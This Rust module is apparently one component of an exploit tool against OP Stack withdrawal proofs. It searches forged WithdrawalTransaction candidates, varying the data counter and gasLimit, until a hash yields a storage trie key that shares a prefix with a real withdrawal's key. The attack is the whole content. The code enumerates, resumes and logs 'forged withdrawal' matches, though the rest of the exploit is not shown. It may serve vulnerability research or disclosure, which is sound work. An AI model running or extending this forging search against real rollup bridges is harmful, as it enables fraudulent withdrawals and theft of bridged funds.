//! Brute-force search for a forged withdrawal whose trie key shares a prefix
//! with a real one.
//!
//! The candidate space is enumerated by a single index: `data` is a 16-bit
//! counter and every full wrap of it bumps `gasLimit` by one. Any index maps
//! to one candidate via [`nth_candidate`], so a search can be resumed or split
//! across workers by index range.

use crate::{
    hash::compute_withdrawal_hash,
    key::{trie_key_for_hash, KeyPrefix},
    types::{TrieKey, WithdrawalHash},
    ForgeError,
};
use alloy_primitives::{Bytes, U256};
use binding::opstack::WithdrawalTransaction;
use config::ForgedMessageConfig;
use rand::Rng;
use tracing::{debug, info};

/// Values of the 2-byte `data` counter before it wraps into `gasLimit`.
pub const DATA_COUNTER_SPAN: u64 = 0x1_0000;

const PROGRESS_INTERVAL: u64 = 1_000_000;

/// A forged withdrawal that matched the required prefix.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ForgedWithdrawal {
    pub transaction: WithdrawalTransaction,
    pub hash: WithdrawalHash,
    pub trie_key: TrieKey,
    /// Index of the matching candidate
    pub index: u64,
    /// Candidates hashed, including the match
    pub attempts: u64,
}

/// The starting candidate: fixed fields from `config`, `data = 0x0000`, and the
/// base gas limit plus a random jitter in `0..=jitter`.
///
/// The jitter makes repeated runs produce different forged withdrawals.
pub fn base_candidate<R: Rng>(
    config: &ForgedMessageConfig,
    jitter: u64,
    rng: &mut R,
) -> WithdrawalTransaction {
    WithdrawalTransaction {
        nonce: config.nonce,
        sender: config.sender,
        target: config.target,
        value: config.value,
        gasLimit: config.base_gas_limit + U256::from(rng.gen_range(0..=jitter)),
        data: Bytes::from_static(&[0x00, 0x00]),
    }
}

/// The candidate at search index `n`.
///
/// `data` is `n mod 0x10000` as two big-endian bytes; `gasLimit` is the base
/// gas limit plus `n / 0x10000`. All other fields are copied from `base`.
pub fn nth_candidate(base: &WithdrawalTransaction, n: u64) -> WithdrawalTransaction {
    let counter = (n % DATA_COUNTER_SPAN) as u16;
    WithdrawalTransaction {
        nonce: base.nonce,
        sender: base.sender,
        target: base.target,
        value: base.value,
        gasLimit: base.gasLimit + U256::from(n / DATA_COUNTER_SPAN),
        data: Bytes::copy_from_slice(&counter.to_be_bytes()),
    }
}

/// Trie key a withdrawal would occupy in the message passer's storage trie.
pub fn withdrawal_trie_key(tx: &WithdrawalTransaction) -> TrieKey {
    trie_key_for_hash(compute_withdrawal_hash(tx))
}

/// Search indices `0..max_attempts` for the first candidate matching `prefix`.
pub fn find_matching_withdrawal(
    base: &WithdrawalTransaction,
    prefix: &KeyPrefix,
    max_attempts: u64,
) -> Result<ForgedWithdrawal, ForgeError> {
    find_matching_withdrawal_from(base, prefix, 0, max_attempts)
}

/// Search indices `start..start + max_attempts` for the first candidate
/// matching `prefix`. Returns the first match, not the best one.
pub fn find_matching_withdrawal_from(
    base: &WithdrawalTransaction,
    prefix: &KeyPrefix,
    start: u64,
    max_attempts: u64,
) -> Result<ForgedWithdrawal, ForgeError> {
    debug!(
        %prefix,
        start,
        max_attempts,
        base_gas_limit = %base.gasLimit,
        "Searching for forged withdrawal"
    );

    let end = start.saturating_add(max_attempts);
    for index in start..end {
        let transaction = nth_candidate(base, index);
        let hash = compute_withdrawal_hash(&transaction);
        let trie_key = trie_key_for_hash(hash);

        if prefix.matches(&trie_key) {
            let attempts = index - start + 1;
            info!(
                withdrawal_hash = %hash,
                %trie_key,
                attempts,
                gas_limit = %transaction.gasLimit,
                data = %transaction.data,
                "Found forged withdrawal matching prefix"
            );
            return Ok(ForgedWithdrawal {
                transaction,
                hash,
                trie_key,
                index,
                attempts,
            });
        }

        let done = index - start + 1;
        if done % PROGRESS_INTERVAL == 0 {
            debug!(attempts = done, %prefix, "Still searching");
        }
    }

    Err(ForgeError::SearchExhausted {
        prefix: prefix.to_string(),
        attempts: end - start,
    })
}
